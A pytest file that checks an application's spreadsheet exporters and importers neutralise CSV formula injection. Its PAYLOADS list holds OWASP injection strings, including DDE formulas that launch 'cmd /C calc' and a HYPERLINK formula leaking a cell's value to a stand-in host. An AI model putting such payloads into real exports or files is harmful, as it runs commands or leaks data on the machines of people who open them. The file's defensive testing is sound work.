"""No writer of OmniDesk's turns text into a live formula (OWASP's CSV injection payloads).

Each writer gets the payloads where text goes (codes, names, headers) and the result
is read back: in an .xlsx no cell may be a formula, in a .csv meant for people no
cell may start the way a spreadsheet program evaluates.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from omnidesk.kinds import ListKind
from omnidesk.spreadsheet import (
    check_spreadsheet,
    open_spreadsheet,
    write_annotated_copy,
    write_clean_upload,
    write_template,
)
from omnidesk.spreadsheet.formulas import FORMULA_STARTS, csv_safe

# https://owasp.org/www-community/attacks/CSV_Injection, and the DDE forms.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def evaluated_by_a_spreadsheet(text: str) -> bool:
    """What Excel and LibreOffice take for a formula when they open a CSV cell."""
    if not text.startswith(FORMULA_STARTS):
        return False
    body = text.lstrip("-")
    return not (text.startswith("-") and body.replace(".", "", 1).isdigit())


def assert_no_formulas(path: Path) -> list[object]:
    values: list[object] = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_csv_safe_neutralises_every_payload_and_keeps_numbers() -> None:
    for payload in PAYLOADS:
        written = csv_safe(payload)
        assert isinstance(written, str)
        assert not evaluated_by_a_spreadsheet(written), payload
        assert written == "'" + payload  # the person still sees what was typed
    # A negative number in a number column stays the number; -1+1 in text does not.
    assert csv_safe("-5") == "-5"
    assert csv_safe("-12,50") == "-12,50"
    assert csv_safe("-1+1") == "'-1+1"
    assert csv_safe(-5) == -5
    assert csv_safe("SKU-1") == "SKU-1"


def test_the_windows_export_writes_text_as_text(tmp_path: Path) -> None:
    from decimal import Decimal

    from omnidesk.ui.export import write_table

    headers = ["Name", "Code", "Price", *PAYLOADS[:2]]
    rows = [[payload, payload, Decimal("-5.00"), None, 3] for payload in PAYLOADS]
    xlsx = tmp_path / "export.xlsx"
    write_table(xlsx, headers, rows)
    assert_no_formulas(xlsx)
    sheet = load_workbook(xlsx)["Export"]
    read_back = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert read_back[0] == headers
    # As typed and never run (XML reads a bare carriage return as a line feed);
    # numbers stay numbers.
    typed = [p.replace("\r", "\n") for p in PAYLOADS]
    assert read_back[1:] == [[p, p, -5, None, 3] for p in typed]

    out = tmp_path / "export.csv"
    write_table(out, headers, rows)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    for row in read:
        for text in row:
            assert not evaluated_by_a_spreadsheet(text), text
    assert [row[0] for row in read[1:]] == ["'" + p for p in PAYLOADS]
    assert {row[2] for row in read[1:]} == {"-5.00"}
    # Every cell is quoted, so a ";" inside one cannot start a cell of its own.
    assert out.read_text(encoding="utf-8-sig").startswith('"Name","Code"')


@pytest.fixture
def payload_csv(make_csv: Callable[..., Path]) -> Path:
    lines = ["sku;price;name"] + [f'"{p}";5;"{p}"' for p in PAYLOADS]
    return make_csv("\n".join(lines) + "\n", name="payloads.csv")


def test_the_clean_upload_keeps_payload_codes_as_text(payload_csv: Path, tmp_path: Path) -> None:
    with open_spreadsheet(payload_csv) as sheet:
        result = check_spreadsheet(sheet, ListKind.PRICE)
    usable = {row.values["product__sku"] for row in result.good_rows()}
    assert usable  # the payloads that are valid codes reach the writers
    upload = tmp_path / "upload.xlsx"
    write_clean_upload(result, upload)
    written = assert_no_formulas(upload)
    assert usable <= set(written)
    # The .csv upload is read by Omnitron's importer, not a spreadsheet: a quote added
    # there would become part of the SKU, so it carries each code exactly as typed.
    as_csv = tmp_path / "upload.csv"
    write_clean_upload(result, as_csv)
    with as_csv.open(encoding="utf-8", newline="") as handle:
        assert {row[0] for row in list(csv.reader(handle))[1:]} == usable


def test_the_annotated_copy_writes_text_as_text(payload_csv: Path, tmp_path: Path) -> None:
    mapping: dict[str | int, str | None] = {"sku": "product__sku", PAYLOADS[0]: "price"}
    source = tmp_path / "headers.csv"
    source.write_text(f"sku;{PAYLOADS[0]}\n=cmd;x\n", encoding="utf-8")
    for path, kind_mapping in ((payload_csv, None), (source, mapping)):
        with open_spreadsheet(path) as sheet:
            result = check_spreadsheet(sheet, ListKind.PRICE, mapping=kind_mapping)
        out = tmp_path / f"{path.stem}-checked.xlsx"
        write_annotated_copy(path, result, out)
        values = assert_no_formulas(out)
        assert result.findings
        assert all(f.message in values for f in result.findings)
    assert PAYLOADS[0] in values  # the header, in the Problems sheet's Column column


def test_the_streamed_copy_of_a_workbook_writes_text_as_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["sku", PAYLOADS[6]])
    for payload in PAYLOADS:
        sheet.append([payload, "x"])
    source = tmp_path / "payloads.xlsx"
    book.save(source)
    mapping: dict[str | int, str | None] = {PAYLOADS[6]: "price"}
    with open_spreadsheet(source) as opened:
        result = check_spreadsheet(opened, ListKind.PRICE, mapping=mapping)
    out = tmp_path / "checked.xlsx"
    write_annotated_copy(source, result, out)
    problems = load_workbook(out)["Problems"]
    for row in problems.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    columns = [row[1] for row in problems.iter_rows(min_row=3, values_only=True)]
    assert PAYLOADS[6] in columns  # the header as typed, a text


def test_templates_have_no_formulas(tmp_path: Path) -> None:
    for kind in ListKind:
        out = tmp_path / f"{kind}.xlsx"
        write_template(kind, out)
        assert_no_formulas(out)
